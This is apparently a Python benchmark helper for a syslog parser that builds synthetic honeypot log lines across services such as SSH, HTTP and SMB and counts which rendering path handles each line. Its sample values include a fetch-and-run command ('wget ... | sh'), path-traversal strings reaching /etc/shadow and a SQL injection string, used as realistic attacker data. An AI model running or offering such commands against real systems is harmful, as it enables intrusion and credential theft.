"""
Lines of many shapes: nineteen of twenty as honeypots write them, the others from the test vectors.

Only vectors that no fast path renders are used. L{implementations} counts the lines that each
implementation renders.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from random import Random
from unittest import mock

from decnet_syslog.wire import Provenance
from decnet_syslog.wire import _record as room

__all__ = ["Implementations", "implementations", "mixedLines"]

_VECTORS = Path(__file__).parent.parent / "tests" / "data" / "decnet-records.jsonl"

# One line in this many is a test vector.
VECTOR_EACH = 20

# One line in this many has an attacker with an IPv6 address.
IPV6_EACH = 8

# The number of lines made at a time.
_RUN = 10_000

# Services, their events and the parameters of these.
_EVENTS = (
    ("ssh", "login_attempt", ("src_ip", "src_port", "username", "password")),
    ("ssh", "command", ("src_ip", "session", "command", "cwd")),
    ("http", "request", ("remote_addr", "method", "path", "user_agent", "status")),
    ("telnet", "session", ("src_ip", "bytes_in", "bytes_out", "seconds")),
    ("smb", "tree_connect", ("client_ip", "share", "domain", "username")),
    ("mysql", "query", ("src", "database", "query")),
    ("mqtt", "publish", ("src_ip", "topic", "payload")),
    ("smtp", "rcpt", ("src_ip", "helo", "mail_from", "rcpt_to")),
    ("redis", "command", ("remote_ip", "command")),
    ("rdp", "connect", ("src_ip", "cookie")),
)
_VALUES = (
    *("root", "admin", "123456", "P@ss=w0rd;", "", "/etc/passwd", "GET", "404", "]"),
    *("wget http://203.0.113.9/a.sh -O- | sh", "../../../../etc/shadow", "{'a': 1}"),
    *("SELECT * FROM users WHERE 1=1 -- x", "Mozilla/5.0 (X11; Linux x86_64)"),
)
_TEXTS = ("", "login attempt failed", 'said "hello"', "a] b [c", "from 192.0.2.1")


def mixedLines(count: int, seed: int = 1) -> Iterator[bytes]:
    """Blocks of lines, each line different and numbered, the same for the same seed."""
    random = Random(seed)
    texts = _VECTORS.read_text("utf-8").splitlines()
    lines = [json.loads(text)["line"] for text in texts]
    vectors = [line for line in lines if _isUsable(line)]
    for at in range(0, count, _RUN):
        block = []
        for n in range(at, min(count, at + _RUN)):
            isVector = random.randrange(VECTOR_EACH) == 0
            line = random.choice(vectors) if isVector else _common(random, n)
            block.append(f"{line} seq={n:08d}\n".encode())
        yield b"".join(block)


def _isUsable(line: str) -> bool:
    """Whether a line needs the exact path. Other senders escape control characters."""
    if not (line.isprintable() and line.startswith("<")):
        return False
    return implementations(f"{line} seq=00000000\n".encode()).exact == 1


def _common(random: Random, n: int) -> str:
    """A line that a honeypot might write."""
    service, event, names = random.choice(_EVENTS)
    host = random.randrange(256)
    address = f"203.0.113.{host}" if n % IPV6_EACH else f"2001:db8::{host:x}"
    values = [address, *[random.choice(_VALUES) for _ in names[1:]]]
    params = " ".join([f'{k}="{v}"' for k, v in zip(names, values, strict=True)])
    minute, second = divmod(n % 3600, 60)
    return (
        f"<134>1 2026-04-18T00:{minute:02d}:{second:02d}.{n % 10**6:06d}+00:00"
        f" decky{n % 100:02d} {service} {n % 32768} {event}"
        f" [relay@55555 {params}] {random.choice(_TEXTS)}"
    )


@dataclass(frozen=True)
class Implementations:
    """The number of lines that each implementation has rendered as records."""

    compiled: int
    common: int
    exact: int

    def __str__(self) -> str:
        """The shares, for people."""
        every = self.compiled + self.common + self.exact
        return (
            f"{self.compiled / every:.1%} of the records are rendered by compiled code,"
            f" {self.common / every:.1%} by the fast path in Python,"
            f" {self.exact / every:.1%} by the exact path"
        )


def implementations(lines: bytes) -> Implementations:
    """Render a block of lines and count."""
    who = Provenance("w", "f", "a", "2026-04-18T00:00:00.000000Z", "/a.log", True)
    with (
        mock.patch.object(room, "_render", side_effect=room._render) as python,
        mock.patch.object(room, "_exact", side_effect=room._exact) as exact,
    ):
        for _ in room.renderLines(lines, who, 0):
            pass
    inPython = sum(len(call.args[0]) for call in python.call_args_list)
    compiled = lines.count(b"\n") - inPython
    return Implementations(compiled, inPython - exact.call_count, exact.call_count)
